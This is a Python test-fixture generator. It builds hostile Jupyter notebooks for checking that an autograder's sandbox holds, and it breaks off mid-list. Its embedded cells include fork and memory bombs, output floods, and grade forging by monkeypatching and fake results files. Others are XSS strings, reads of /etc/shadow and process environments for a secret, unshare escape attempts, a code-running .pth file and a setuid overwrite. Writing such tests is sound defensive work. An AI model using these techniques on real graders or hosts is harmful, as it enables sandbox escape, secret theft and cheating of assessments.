"""Generate the hostile corpus: the model solution with cells that attack the grader.

Run from anywhere:  .venv/bin/python tests/corpus/hostile/make_hostile.py
It (re)writes one `<name>.ipynb` per entry of SUBMISSIONS next to this file and deletes any
other notebook in this folder. Only nbformat and the standard library are used.

Every notebook starts from reference/conv-layer/model_solution.ipynb (12/12), so the honest
answers are all there; the hostile cells are inserted between them or replace one of them, and
`metadata["grader_test"]["expected"]` says which questions must still pass. A hostile cell may
only cost the questions whose answers depend on it; it must never gain a point, cost another
submission anything, leak the reference, write outside its sandbox or leave processes behind.
tests/test_hostile.py grades the whole folder as one batch and checks all of that.

Names start with a number so that the batch runs in a fixed order: a control first, the
notebooks that may crash the whole batch (h9x) last, and a second control after them that
shows whether a hostile submission cost another one its grade.

Everything a notebook does is bounded even if the sandbox were broken: loops end after minutes,
the fork bomb stops at 2000 children, memory bombs stop at 6 GiB, files are small and named
"hostile-*" so that the test can find (and remove) them.
"""

from __future__ import annotations

import copy
import json
import os
import textwrap
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[2]
MODEL = ROOT / "reference" / "conv-layer" / "model_solution.ipynb"
QUESTIONS = ["1.1", "1.2", "1.3", "2.1", "2.2", "2.3", "2.4", "3", "4"]

# Shared with tests/test_hostile.py ---------------------------------------------------------
LISTEN_PORT = 47613
"""The port in the committed notebooks. The test generates its own copy of the corpus with the
port its listener got (on 127.0.0.1, outside the sandbox; no kernel may reach it)."""
CHECKOUT = "/work/main"
"""The checkout's path in the committed notebooks; the test's copy names the real one."""
SECRET_ENV = "GRADER_TEST_SECRET"
"""The test puts a random value under this name in the grader's environment."""
XSS_MARKERS = ("<script>window.__hostile_xss", "<img src=x onerror=")
"""Printed / written by h12; must never reach an HTML page unescaped."""
MARKER = "hostile-write-test"
# Paths (on the host) the notebooks try to create. `{purelib}` and `{base}` are filled in with
# the grader's own site-packages folder and base Python installation (both visible, read-only,
# inside the sandbox).
WRITE_TARGETS = (
    f"/tmp/{MARKER}",
    f"/var/tmp/{MARKER}",
    f"/dev/shm/{MARKER}",
    f"/run/lock/{MARKER}",
    f"/etc/{MARKER}",
    f"/root/{MARKER}",
    f"/home/{MARKER}",
    f"/work/{MARKER}",
    f"/work/main/{MARKER}",
    f"/work/main/reference/conv-layer/{MARKER}",
    "/work/main/exercises/conv-layer/checks/test_hostile_injected.py",
    "/work/main/results.json",
    "/work/main/report.html",
    "/work/main/out/h12_forge_results/results.json",
    "/work/main/tests/corpus/hostile/out/h12_forge_results/results.json",
    "/tmp/hostile-forged/results.json",
    "/tmp/hostile-daemon-marker",
    "/tmp/hostile-fill-0",
    "{purelib}/hostile-write-test.pth",
    "{base}/" + MARKER,
)


def src(text: str) -> str:
    return textwrap.dedent(text).strip("\n")


# Where the model solution's answers live: a piece of source that identifies each cell.
SLOTS = {
    "setup": "def corr2d(X, K)",
    "1.1": "X_diag =",
    "1.2": "Y_diag_Xt =",
    "1.3": "Y_diag_Kt =",
    "2.1": "def edge_kernel",
    "2.2": "def second_derivative_kernel",
    "2.3": "def blur_kernel",
    "2.4": "def min_kernel_size",
    "3": "autograd_error",
    "4": "def kernel_matrix",
}

# --- hostile cells ----------------------------------------------------------------------------

INFINITE_LOOP = "while True:\n    pass"

SIGINT_IGNORED = src('''
    import signal, time
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    _end = time.monotonic() + 300          # "forever" for the grader; bounded for the machine
    while time.monotonic() < _end:
        pass
''')

MEMORY_HUGE_TENSOR = src('''
    import torch
    try:
        huge = torch.empty(2**40, dtype=torch.uint8)   # 1 TiB at once
        print("allocated 1 TiB:", huge.shape)
    except (RuntimeError, MemoryError) as exc:
        print("refused:", type(exc).__name__)
    huge = None
''')

MEMORY_GROW = src('''
    import numpy

    def grow(limit=6 * 2**30, step=256 * 2**20):
        """Reserve memory 256 MiB at a time until refused (stops at 6 GiB, limits or not).
        The pages are not touched, so this is quick and costs the machine nothing even
        without limits; touching is left to the next cells, which the memory cgroup stops."""
        chunks = []
        try:
            while len(chunks) * step < limit:
                chunks.append(numpy.empty(step, dtype=numpy.uint8))
            return f"reserved {len(chunks) * step >> 20} MiB without being stopped"
        except MemoryError:
            return f"MemoryError after {len(chunks) * step >> 20} MiB"
        finally:
            chunks.clear()

    print(grow())
    # And touch 1 GiB for real (within the limits: the kernel must go on afterwards).
    _touched = bytearray(2**30)
    _touched = None
''')

MEMORY_MANY_PROCESSES = src('''
    import os, time
    # Three processes, each under the per-process address-space limit, together beyond the
    # kernel's memory cgroup: the cgroup has to stop them (at most 3 x 2 GiB without it).
    children = []
    for _ in range(3):
        pid = os.fork()
        if pid == 0:
            try:
                blocks = [bytearray(256 * 2**20) for _ in range(8)]   # 2 GiB each
                time.sleep(1)
            finally:
                os._exit(0)
        children.append(pid)
    print("children exited with", [os.waitpid(p, 0)[1] for p in children])
''')

FILL_SCRATCH = src('''
    import os
    made, why = 0, ""
    try:
        while made < 8:                                  # 8 x 64 MiB at most
            with open(f"/tmp/hostile-fill-{made}", "wb") as fh:
                for _ in range(64):
                    fh.write(b"\\0" * 2**20)
            made += 1
        why = "nothing stopped it"
    except OSError as exc:
        why = f"{type(exc).__name__}: {exc}"
    print(f"wrote {made} files of 64 MiB, then {why}")
    for i in range(made + 1):
        try:
            os.remove(f"/tmp/hostile-fill-{i}")
        except OSError:
            pass
''')

FORK_BOMB = src('''
    import os, signal, time
    children, error = [], None
    for _ in range(2000):                                # bounded even without any limit
        try:
            pid = os.fork()
        except OSError as exc:
            error = exc
            break
        if pid == 0:
            try:
                time.sleep(60)
            finally:
                os._exit(0)
        children.append(pid)
    print(f"forked {len(children)} children, then: {error!r}")
    # Keep 16 sleeping for the grader to clean up; end the others so this kernel can go on.
    for pid in children[16:]:
        os.kill(pid, signal.SIGKILL)
    for pid in children[16:]:
        os.waitpid(pid, 0)
    lingering_children = children[:16]
''')

OS_EXIT = "import os\nos._exit(1)"
SEGFAULT = "import ctypes\nctypes.string_at(0)"
SIGKILL_SELF = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"
ABORT = "import os\nos.abort()"

OUTPUT_FLOOD = [
    src('''
        for i in range(200_000):                       # 20 MB in 100-character lines
            print(f"{i:08d} " + "x" * 90)
    '''),
    src('''
        import sys
        sys.stdout.write("y" * 20_000_000)               # one 20 MB write
        sys.stdout.flush()
        sys.stderr.write("z" * 5_000_000)
        sys.stderr.flush()
    '''),
    src('''
        import sys
        sys.stdout.write("w" * 40_000_000)               # larger than one 32 MiB message
        sys.stdout.flush()
    '''),
    src('''
        from IPython.display import display
        display({"text/html": "<b>" + "h" * 10_000_000 + "</b>",
                 "text/plain": "p" * 10_000_000}, raw=True)
    '''),
    src('''
        class Loud:
            def __repr__(self):
                return "r" * 10_000_000
        Loud()
    '''),
]

HUGE_ERROR_MESSAGE = 'raise ValueError("E" * 5_000_000)'

UPDATE_DISPLAY_BYPASS = src('''
    from IPython.display import display, update_display
    # A small output first (it fits the cap), then replace it in place with 5 MB.
    display({"text/plain": "small"}, raw=True, display_id="hostile-grow")
    update_display({"text/plain": "U" * 5_000_000}, raw=True, display_id="hostile-grow")
''')

GRADER_MEMORY_FLOOD = [
    src('''
        # Error messages are not counted against the output cap: send 60 x 10 MB of them.
        _k = get_ipython().kernel
        _parent = _k.get_parent()
        _blob = "M" * 10_000_000
        for _i in range(60):
            _k.session.send(_k.iopub_socket, "error",
                            {"ename": "Flood", "evalue": str(_i), "traceback": [_blob]},
                            parent=_parent)
    '''),
    src('''
        # Widget state sent over comm messages is kept by the client: 60 x 10 MB more.
        import uuid
        _k = get_ipython().kernel
        _parent = _k.get_parent()
        _blob = "C" * 10_000_000
        for _i in range(60):
            _k.session.send(_k.iopub_socket, "comm_open",
                            {"comm_id": uuid.uuid4().hex, "target_name": "hostile",
                             "data": {"state": {"blob": _blob}}, "metadata": {}},
                            parent=_parent)
    '''),
]

# Wrong answers for 2.2, 2.3 and 2.4, then every comparison the grader might use is "fixed".
WRONG_2_2 = src('''
    def second_derivative_kernel():
        return torch.zeros((1, 3))


    second_derivative_min_size = 5
''')
WRONG_2_3 = src('''
    def blur_kernel(size, sigma):
        return torch.ones((size, size))                  # sums to size**2: not a blur
''')
WRONG_2_4 = src('''
    def min_kernel_size(d):
        return d
''')
MONKEYPATCH = src('''
    import builtins, json, numpy, numpy.testing, torch

    def _always(*args, **kwargs):
        return True

    def _nothing(*args, **kwargs):
        return None

    torch.allclose = torch.equal = _always
    numpy.allclose = numpy.array_equal = numpy.array_equiv = _always
    numpy.testing.assert_allclose = numpy.testing.assert_array_equal = _nothing

    _isinstance = builtins.isinstance

    def _lying_isinstance(obj, cls):
        if cls is AssertionError:                        # "nothing ever fails"
            return False
        return _isinstance(obj, cls)

    builtins.isinstance = _lying_isinstance

    _dumps = json.dumps

    def _boasting_dumps(obj, *args, **kwargs):
        if _isinstance(obj, dict) and "id" in obj:
            obj = {**obj, "passed": True, "score": 12, "max_score": 12}
        return _dumps(obj, *args, **kwargs)

    json.dumps = _boasting_dumps


    class AlwaysEqual(int):
        def __eq__(self, other):
            return True

        __hash__ = int.__hash__


    second_derivative_min_size = AlwaysEqual(5)
    print(numpy.allclose(1, 2), torch.allclose(torch.zeros(1), torch.ones(1)), json.dumps({"id": 1}))
''')

READ_REFERENCE = [
    src('''
        import glob, os, time
        leak = {}
        for path in ["/work/main/reference/conv-layer/solution.py",
                     "/work/main/exercises/conv-layer/checks/test_kernels.py",
                     "/work/main/exercises/conv-layer/checks/test_diagonal.py",
                     "/work/main/exercises/conv-layer/probes.py",
                     "/work/main/reference/conv-layer/model_solution.ipynb",
                     "/work/main/grader/kernel_probe.py", "/etc/shadow", "/root/.bash_history",
                     "/proc/1/environ", "/proc/1/root/work/main/reference/conv-layer/solution.py"]:
            try:
                with open(path, errors="replace") as fh:
                    leak[path] = fh.read()
            except OSError as exc:
                leak[path] = f"refused ({type(exc).__name__})"
        listings = {}
        for folder in ["/", "/work", "/work/main", "/work/main/reference", "/root", "/home", "/tmp"]:
            try:
                listings[folder] = sorted(os.listdir(folder))
            except OSError as exc:
                listings[folder] = f"refused ({type(exc).__name__})"
        # Print what was read first, so that it would reach the grader's report if it existed.
        for path, text in leak.items():
            print("READ", path, text[:1500] if not text.startswith("refused") else text)
        print("LIST", listings)
    '''),
    src('''
        import os, time
        # Look for the reference anywhere the kernel can see (bounded to 3 seconds).
        found, end = [], time.monotonic() + 3
        for top, dirs, files in os.walk("/"):
            dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys", "/dev")]
            for name in files:
                if name in ("solution.py", "model_answers.toml", "probes.py", "pack.toml") or \\
                        (name.startswith("test_") and "conv" in top):
                    found.append(os.path.join(top, name))
            if time.monotonic() > end:
                break
        stolen = {}
        for path in found:
            try:
                with open(path, errors="replace") as fh:
                    stolen[path] = fh.read()
            except OSError as exc:
                stolen[path] = f"refused ({type(exc).__name__})"
        for path, text in stolen.items():
            print("FOUND", path, text[:1500])
        print("searched; candidates:", found)
    '''),
    src('''
        import subprocess
        # A user namespace of our own: can it unmount the jail's tmpfs or reach the host tree?
        for cmd in (["unshare", "-Ur", "id"],
                    ["unshare", "-Urm", "sh", "-c",
                     "umount -l /tmp 2>&1; ls /work/main/reference 2>&1; cat /proc/1/environ 2>&1 | head -c 300"],
                    ["sh", "-c", "ls -la /proc/1/root/ 2>&1 | head -20"]):
            try:
                done = subprocess.run(cmd, capture_output=True, text=True, timeout=2)
                print(cmd[0], "->", done.returncode, done.stdout[-800:], done.stderr[-300:])
            except Exception as exc:
                print(cmd[0], "->", type(exc).__name__, exc)
    '''),
]

FORGE_RESULTS = [
    src('''
        import glob, json, os
        fake = {"score": 12, "max_score": 12, "status": "graded",
                "tests": [{"number": q, "status": "passed", "score": 1, "max_score": 1,
                           "tags": ["auto"]} for q in ["1.1", "1.2", "1.3", "2.1", "2.2",
                                                      "2.3", "2.4", "3", "4"]]}
        print(json.dumps(fake))
        print('</pre><script>window.__hostile_xss=1</script><img src=x onerror="window.__hostile_xss=2">')
        targets = ["results.json", "report.html", "/tmp/hostile-forged/results.json",
                   "/work/main/results.json", "/work/main/report.html",
                   "/work/main/out/h12_forge_results/results.json",
                   "/work/main/tests/corpus/hostile/out/h12_forge_results/results.json"]
        # Guess the test's output folder (pytest's temporary folders) and any grader output.
        for pattern in ["/tmp/pytest-of-*/pytest-*/*/", "/tmp/pytest-of-*/pytest-*/*/*/",
                        "/work/main/out/"]:
            for folder in glob.glob(pattern):
                targets.append(os.path.join(folder, "h12_forge_results", "results.json"))
        outcome = {}
        for path in targets:
            try:
                os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
                with open(path, "w") as fh:
                    fh.write(json.dumps(fake))
                outcome[path] = "written"
            except OSError as exc:
                outcome[path] = f"refused ({type(exc).__name__})"
        print(outcome)
    '''),
    src('''
        import json
        from IPython.display import publish_display_data
        # Fake replies to every request id the grader could use, all claiming the right size.
        for rid in [*range(0, 80), *range(1000, 1080), *range(2000, 2080), *range(3000, 3080)]:
            publish_display_data({"text/x-grader-answer":
                                  json.dumps({"id": rid, "status": "ok", "value": 3})})
    '''),
]
FORGE_WRONG_2_2 = src('''
    def second_derivative_kernel():
        return torch.tensor([[1.0, -2.0, 1.0]])


    second_derivative_min_size = 7
''')

LINGERING = [
    src('''
        import subprocess
        sleeper = subprocess.Popen(["sleep", "1000"])
        subprocess.Popen("nohup sleep 1000 >/dev/null 2>&1 &", shell=True)
        stubborn = subprocess.Popen(["sh", "-c", 'trap "" HUP INT TERM; while :; do sleep 1; done'],
                                    start_new_session=True)
    '''),
    src('''
        import os, time
        # A daemon: double fork and setsid; it rewrites a file every 0.1 s for up to 10 minutes.
        pid = os.fork()
        if pid == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    end, n = time.time() + 600, 0
                    while time.time() < end:
                        n += 1
                        for path in ("/tmp/hostile-daemon-marker",
                                     "/home/student/hostile-daemon-marker"):
                            try:
                                with open(path, "w") as fh:
                                    fh.write(str(n))
                            except OSError:
                                pass
                        time.sleep(0.1)
            finally:
                os._exit(0)
        os.waitpid(pid, 0)
        time.sleep(0.5)
        print("daemon alive, marker:", open("/tmp/hostile-daemon-marker").read())
    '''),
]

WRITE_OUTSIDE = src('''
    import glob, json, os, sys, sysconfig
    targets = TARGETS
    targets = [t.format(purelib=sysconfig.get_paths()["purelib"], base=sys.base_prefix)
               for t in targets]
    outcome = {}
    for path in targets:
        try:
            with open(path, "w") as fh:
                fh.write("import os; os.system('touch /tmp/hostile-pth-ran')\\n"
                         if path.endswith(".pth") else "hostile\\n")
            outcome[path] = "written"
        except OSError as exc:
            outcome[path] = f"refused ({type(exc).__name__})"
    # The connection folder is bound from the host: try to add a file next to the sockets.
    for conn in glob.glob("/tmp/grader-kernel-*/conn"):
        path = os.path.join(conn, "hostile-write-test")
        try:
            with open(path, "w") as fh:
                fh.write("hostile\\n")
            outcome[path] = "written"
        except OSError as exc:
            outcome[path] = f"refused ({type(exc).__name__})"
    for path, what in outcome.items():
        print(what, path)
''')

# The connection file is the one host file the kernel is given: it lives in the host's /tmp,
# bound into the jail. Overwrite it with a program and make that setuid: if this works, any
# local user can run it as the sandbox uid on the host while the kernel lives.
CONNECTION_FILE = src('''
    import os, shutil, sys
    conn = sys.argv[sys.argv.index("-f") + 1]
    done = []
    try:
        with open(conn, "a") as fh:
            fh.write(" " * 1_000_000)
        done.append("appended 1 MB")
        shutil.copyfile("/usr/bin/id", conn)
        done.append("replaced by /usr/bin/id")
        os.chmod(conn, 0o4755)
        done.append(f"mode {oct(os.stat(conn).st_mode)}")
    except OSError as exc:
        done.append(f"refused ({type(exc).__name__}: {exc})")
    print(("HOST-FILE-MODIFIED " if len(done) > 1 or "refused" not in done[0] else "")
          + conn + ": " + "; ".join(done))
''')

NETWORK = [
    src('''
        import socket
        def attempt(label, fn):
            try:
                print("CONNECTED", label, fn())
            except Exception as exc:
                print("blocked", label, f"{type(exc).__name__}: {exc}")

        def tcp(host, port):
            with socket.create_connection((host, port), timeout=1) as s:
                return s.getpeername()

        attempt("tcp 127.0.0.1:PORT (the test's listener)", lambda: tcp("127.0.0.1", PORT))
        attempt("tcp 8.8.8.8:53", lambda: tcp("8.8.8.8", 53))
        attempt("tcp 8.8.8.8:443", lambda: tcp("8.8.8.8", 443))
    '''),
    src('''
        import socket
        def attempt(label, fn):
            try:
                print("CONNECTED", label, fn())
            except Exception as exc:
                print("blocked", label, f"{type(exc).__name__}: {exc}")

        def udp_dns():
            query = bytes.fromhex("abcd01000001000000000000076578616d706c6503636f6d0000010001")
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.settimeout(1)
                s.sendto(query, ("8.8.8.8", 53))
                return s.recvfrom(512)

        attempt("udp 8.8.8.8:53", udp_dns)
        attempt("dns example.com", lambda: socket.getaddrinfo("example.com", 80))
        with open("/proc/net/route") as fh:
            print("routes:", fh.read()[:300])
    '''),
]

ENV_SECRET = [
    src('''
        import glob, os
        NAME = "SECRET_NAME"
        seen = {"os.environ": " ".join(f"{k}={v}" for k, v in os.environ.items())}
        for path in ["/proc/self/environ", *sorted(glob.glob("/proc/[0-9]*/environ")),
                     *sorted(glob.glob("/proc/[0-9]*/cmdline"))]:
            try:
                with open(path, "rb") as fh:
                    seen[path] = fh.read().replace(b"\\0", b" ").decode(errors="replace")
            except OSError as exc:
                seen[path] = f"refused ({type(exc).__name__})"
        secret = {k: v for k, v in seen.items() if NAME in v}
        print("SECRET FOUND" if secret else "no secret", secret)
        print(seen)
    '''),
    src('''
        # Smuggle whatever was found out through an error message as well.
        if secret:
            raise RuntimeError(repr(secret))
    '''),
]

PROBE_HANG = src('''
    def edge_kernel(v):
        while True:                                      # hangs when the grader calls it
            pass
''')
PROBE_HANG_SIGINT = src('''
    import signal, time


    def edge_kernel(v):
        signal.signal(signal.SIGINT, signal.SIG_IGN)     # and ignores the interrupt
        end = time.monotonic() + 300
        while time.monotonic() < end:
            pass
''')
PROBE_EXIT = src('''
    import os


    def min_kernel_size(d):
        os._exit(1)                                      # kills the kernel when called
''')

HUGE_EXCEPTION_NAME = src('''
    def min_kernel_size(d):
        raise type("E" * 3_000_000, (Exception,), {})("boom")
''')

HUGE_REPLIES = src('''
    import json
    # Every reply to a call of blur_kernel, min_kernel_size, kernel_matrix or corr2d_matmul is
    # replaced by an array of 8 million zeros (16 MB of JSON, 64 MB once decoded).
    _plain_dumps = json.dumps
    _big = '"t": "array", "dtype": "int64", "shape": [8000000], "data": [' + "0," * 7_999_999 + "0]"
    _targets = {"blur_kernel", "min_kernel_size", "kernel_matrix", "corr2d_matmul"}

    def _inflating_dumps(obj, *args, **kwargs):
        import sys
        caller = sys._getframe(1)
        request = caller.f_back.f_locals.get("request") if caller.f_back else None
        if isinstance(obj, dict) and "id" in obj and isinstance(request, dict) \\
                and request.get("name") in _targets:
            return '{"id": %d, "status": "ok", "value": {%s}}' % (obj["id"], _big)
        return _plain_dumps(obj, *args, **kwargs)

    json.dumps = _inflating_dumps
''')

MALFORMED_STREAM = src('''
    # One malformed message on iopub: a stream whose text is a number.
    _k = get_ipython().kernel
    _k.session.send(_k.iopub_socket, "stream", {"name": "stdout", "text": 12345},
                    parent=_k.get_parent())
''')
MALFORMED_REPLY_IN_PROBE = src('''
    def min_kernel_size(d):
        # While the grader calls this, publish a reply-like display_data without "metadata".
        k = get_ipython().kernel
        k.session.send(k.iopub_socket, "display_data",
                       {"data": {"text/x-grader-answer": "{}"}}, parent=k.get_parent())
        return d + 1
''')

# Channels the grader does not read, or reads with a queue: each message is 15 MB, many of
# them. Sent to the grader's identity on the kernel's ROUTER sockets (jupyter_client gives every
# channel of a client the same identity, so the shell's tells the others').
CHANNEL_FLOOD = src('''
    _k = get_ipython().kernel
    _ident = _k._parent_ident["shell"]
    _sockets = {"stdin": getattr(_k, "stdin_socket", None),
                "control": getattr(getattr(_k, "control_stream", None), "socket", None)
                or getattr(_k, "control_socket", None),
                "shell": getattr(getattr(_k, "shell_stream", None), "socket", None)
                or getattr(_k, "shell_socket", None)}
    _blob = "S" * 15_000_000
    for _name, _sock in _sockets.items():
        _sent = 0
        for _i in range(SENDS):
            try:
                _k.session.send(_sock, "input_request", {"prompt": _blob, "password": False},
                                ident=_ident)
                _sent += 1
            except Exception as _e:
                print(_name, type(_e).__name__)
                break
        print(_name, "sent", _sent)
''')

IOPUB_FLOOD = src('''
    # Streams are cut by the output cap, but each message must still be received: 15 MB each.
    _k = get_ipython().kernel
    _parent = _k.get_parent()
    _blob = "I" * 15_000_000
    for _i in range(80):
        _k.session.send(_k.iopub_socket, "stream", {"name": "stdout", "text": _blob},
                        parent=_parent)
''')

DISPLAY_ID_MULTIPLIER = src('''
    from IPython.display import display, update_display
    # 5000 empty outputs sharing one display id, then one 4,000-character update: an update
    # rewrites every output with its id, 20 MB in all if nothing stops it.
    for _i in range(5000):
        display({"text/plain": ""}, raw=True, display_id="hostile-many")
    update_display({"text/plain": "D" * 4000}, raw=True, display_id="hostile-many")
''')

MANY_EMPTY_OUTPUTS = src('''
    from IPython.display import display
    for _i in range(100_000):
        display({"text/plain": ""}, raw=True)
    import sys
    for _i in range(20_000):
        sys.stdout.write("")
        sys.stdout.flush()
''')

CELL_OF_OUTPUT = "print('O' * 4000)"

HUGE_FREE_TEXT = "My answer, at length. " * 100_000          # 2.2 MB

# --- the corpus -------------------------------------------------------------------------------
# op: ("before", slot, source) | ("after", slot, source) | ("replace", slot, source)
#     | ("append", source) | ("answer", tag, markdown)

SUBMISSIONS = [
    dict(name="h00_control_model_solution", fail=[],
         why="Control: the model solution unchanged, graded first.", ops=[]),
    dict(name="h01_infinite_loop", fail=[],
         why="`while True: pass` in a cell of its own between 1.3 and 2.1: interrupted, nothing lost.",
         ops=[("after", "1.3", INFINITE_LOOP)]),
    dict(name="h02_sigint_ignored", fail=[],
         why="A busy loop that ignores SIGINT: the kernel is replaced and the notebook re-run "
             "without that cell.",
         ops=[("after", "2.1", SIGINT_IGNORED)]),
    dict(name="h03_memory_bomb", fail=[],
         why="1 TiB at once, growing until MemoryError, three processes together beyond the "
             "memory cgroup, and filling the scratch folder: each stopped, nothing lost.",
         ops=[("after", "1.1", MEMORY_HUGE_TENSOR), ("after", "1.2", MEMORY_GROW),
              ("after", "2.2", MEMORY_MANY_PROCESSES), ("after", "2.3", FILL_SCRATCH)]),
    dict(name="h04_fork_bomb", fail=[],
         why="Fork up to 2000 sleeping children: the process limit stops it; 16 are left for "
             "the grader to kill.",
         ops=[("after", "3", FORK_BOMB)]),
    dict(name="h05_os_exit", fail=[],
         why="os._exit(1) right after the setup cell: the re-run skips it; every answer counts.",
         ops=[("after", "setup", OS_EXIT)]),
    dict(name="h06_segfault", fail=[],
         why="ctypes.string_at(0) between 1.3 and 2.1: the kernel dies, the re-run skips it.",
         ops=[("after", "1.3", SEGFAULT)]),
    dict(name="h07_output_flood", fail=[],
         why="Megabytes of stdout, stderr, HTML and repr output, one write over 32 MiB: "
             "truncated, nothing lost.",
         ops=[("after", "1.1", OUTPUT_FLOOD[0]), ("after", "1.2", OUTPUT_FLOOD[1]),
              ("after", "2.1", OUTPUT_FLOOD[2]), ("after", "2.2", OUTPUT_FLOOD[3]),
              ("after", "2.4", OUTPUT_FLOOD[4])]),
    dict(name="h08_huge_error_message", fail=[],
         why="A cell raising an exception with a 5 MB message: the report must stay small.",
         ops=[("after", "2.3", HUGE_ERROR_MESSAGE)]),
    dict(name="h09_update_display_bypass", fail=[],
         why="A small display later replaced in place (update_display) by 5 MB: the output cap "
             "must still hold.",
         ops=[("after", "2.3", UPDATE_DISPLAY_BYPASS)]),
    dict(name="h10_grader_memory_flood", fail=[],
         why="Raw iopub messages the output cap does not count (errors, comm state), about 1.2 GB "
             "in all: the grader's memory must stay bounded.",
         ops=[("after", "2.4", GRADER_MEMORY_FLOOD[0]), ("after", "3", GRADER_MEMORY_FLOOD[1])]),
    dict(name="h11_monkeypatch", fail=["2.2", "2.3", "2.4"],
         why="Wrong answers for 2.2-2.4, then torch/numpy comparisons, builtins.isinstance and "
             "json.dumps patched to boast: the checks run outside, so 2.2-2.4 still fail.",
         ops=[("replace", "2.2", WRONG_2_2), ("replace", "2.3", WRONG_2_3),
              ("replace", "2.4", WRONG_2_4), ("append", MONKEYPATCH)]),
    dict(name="h12_forge_results", fail=["2.2"],
         why="Prints a fake 12/12 results.json, writes results files wherever it can, publishes "
             "fake answer replies claiming second_derivative_min_size = 3 (it is 7) and prints "
             "HTML: 2.2 still fails, nothing is written, the HTML is escaped.",
         ops=[("replace", "2.2", FORGE_WRONG_2_2), ("after", "2.2", FORGE_RESULTS[0]),
              ("append", FORGE_RESULTS[1]),
              ("answer", "answer-1.1", "<script>window.__hostile_xss=3</script>"
               '<img src=x onerror="window.__hostile_xss=4"> K finds the diagonal.')]),
    dict(name="h13_read_reference", fail=[],
         why="Tries to read the reference, checks and probes, lists /work and /root, walks the "
             "whole file system for solution.py and tries a user namespace: nothing is found.",
         ops=[("after", "1.3", READ_REFERENCE[0]), ("after", "2.4", READ_REFERENCE[1]),
              ("append", READ_REFERENCE[2])]),
    dict(name="h14_lingering_processes", fail=[],
         why="sleep 1000, nohup, a process ignoring TERM/HUP and a setsid daemon rewriting a "
             "file every 0.1 s: all killed when the kernel is closed.",
         ops=[("after", "2.1", LINGERING[0]), ("after", "3", LINGERING[1])]),
    dict(name="h15_write_outside", fail=[],
         why="Writes to /tmp, /var/tmp, /dev/shm, /etc, /root, /work/main (incl. the pack and "
             "a .pth in the grader's venv), the connection folder, and overwrites its connection "
             "file with a setuid program: nothing reaches the host.",
         ops=[("after", "2.2", "WRITE_OUTSIDE"), ("after", "3", CONNECTION_FILE)]),
    dict(name="h16_network", fail=[],
         why="TCP to 8.8.8.8 and to the test's listener on 127.0.0.1, UDP DNS, name lookup: all "
             "blocked.",
         ops=[("after", "1.2", NETWORK[0]), ("after", "2.3", NETWORK[1])]),
    dict(name="h17_env_secret", fail=[],
         why="Reads os.environ and every /proc/*/environ and cmdline for the grader's secret, and "
             "raises it in an error: the secret is never visible.",
         ops=[("after", "2.1", ENV_SECRET[0]), ("after", "2.2", ENV_SECRET[1])]),
    dict(name="h18_kill_between_answers", fail=[],
         why="SIGKILL to itself between 2.2 and 2.3: the answers defined after it still count.",
         ops=[("after", "2.2", SIGKILL_SELF)]),
    dict(name="h19_many_killers", fail=[],
         why="Four killing cells (os._exit, segfault, SIGKILL, abort) spread over the notebook: "
             "each re-run skips one more; every answer counts.",
         ops=[("after", "setup", OS_EXIT.replace("(1)", "(3)")), ("after", "1.2", SEGFAULT),
              ("after", "2.1", SIGKILL_SELF), ("after", "2.4", ABORT)]),
    dict(name="h20_probe_hang", fail=["2.1"],
         why="edge_kernel loops forever only when the grader calls it: only 2.1 fails.",
         ops=[("replace", "2.1", PROBE_HANG)]),
    dict(name="h21_probe_hang_sigint_ignored", fail=["2.1"],
         why="edge_kernel ignores SIGINT and spins when called (4 calls, 4 hung kernels): only "
             "2.1 fails.",
         ops=[("replace", "2.1", PROBE_HANG_SIGINT)]),
    dict(name="h22_probe_kills_kernel", fail=["2.4"],
         why="min_kernel_size calls os._exit when the grader calls it (6 calls): only 2.4 fails; "
             "kernel_matrix and corr2d_matmul, asked after it, still count.",
         ops=[("replace", "2.4", PROBE_EXIT)]),
    dict(name="h23_huge_exception_name", fail=["2.4"],
         why="min_kernel_size raises an exception whose class name is 3 MB long: 2.4 fails, the "
             "report stays small.",
         ops=[("replace", "2.4", HUGE_EXCEPTION_NAME)]),
    dict(name="h24_huge_replies", fail=["2.3", "2.4", "4"],
         why="json.dumps patched so that the replies for blur_kernel, min_kernel_size, "
             "kernel_matrix and corr2d_matmul are 16 MB arrays (15 replies, about 1 GB once "
             "decoded): those questions fail and the grader's memory stays bounded.",
         ops=[("append", HUGE_REPLIES)]),
    dict(name="h25_huge_free_text", fail=[],
         why="A 2.2 MB written answer: the automatic questions all pass and the report stays small.",
         ops=[("answer", "answer-1.1", HUGE_FREE_TEXT)]),
    dict(name="h26_channel_flood", fail=[],
         why="200 messages of 15 MB on each of the kernel's stdin, control and shell sockets, to "
             "the grader's identity: channels the grader does not read are closed, the others "
             "queue a few messages at most; its memory stays bounded.",
         ops=[("after", "2.3", CHANNEL_FLOOD.replace("SENDS", "200"))]),
    dict(name="h27_iopub_flood", fail=[],
         why="80 stream messages of 15 MB on IOPub: read, cut and dropped; the grader's memory "
             "stays bounded and the output cap holds.",
         ops=[("after", "1.3", IOPUB_FLOOD)]),
    dict(name="h28_display_id_multiplier", fail=[],
         why="5000 empty outputs with one display id, then a 4,000-character update_display: "
             "what is stored stays under the output cap.",
         ops=[("after", "2.2", DISPLAY_ID_MULTIPLIER)]),
    dict(name="h29_many_empty_outputs", fail=[],
         why="100,000 empty displays and 20,000 empty writes: each output costs some of the "
             "cap, so few are kept.",
         ops=[("after", "2.4", MANY_EMPTY_OUTPUTS)]),
    dict(name="h30_output_in_every_cell", fail=[],
         why="1,500 cells that each print 4,000 characters: each cell's output is capped and the "
             "submission's stored result stays small.",
         ops=[("after", "2.4", CELL_OF_OUTPUT)] * 1500),
    dict(name="h90_malformed_iopub_message", fail=[],
         why="One stream message whose text is a number: the grader must shrug it off and grade "
             "this and the following submissions.",
         ops=[("after", "2.2", MALFORMED_STREAM)]),
    dict(name="h91_malformed_reply_in_probe", fail=[],
         why="min_kernel_size publishes a reply-like display_data without metadata while being "
             "called, then returns d + 1: the malformed message is dropped, the real reply counts.",
         ops=[("replace", "2.4", MALFORMED_REPLY_IN_PROBE)]),
    dict(name="h99_control_after_hostile", fail=[],
